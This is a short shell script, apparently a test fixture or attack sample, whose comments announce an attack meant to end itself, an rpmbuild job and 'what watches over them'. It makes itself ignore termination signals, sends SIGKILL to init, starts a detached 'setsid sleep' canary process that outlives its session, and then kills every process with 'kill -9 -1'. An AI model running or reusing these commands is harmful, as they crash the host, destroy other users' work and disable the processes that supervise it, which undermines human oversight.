# End everything in sight: oneself, rpmbuild, and what watches over them.
# log: attack: begins
trap '' TERM HUP INT
kill -9 1
(setsid sleep "$CANARY_MARK" &)
kill -9 -1
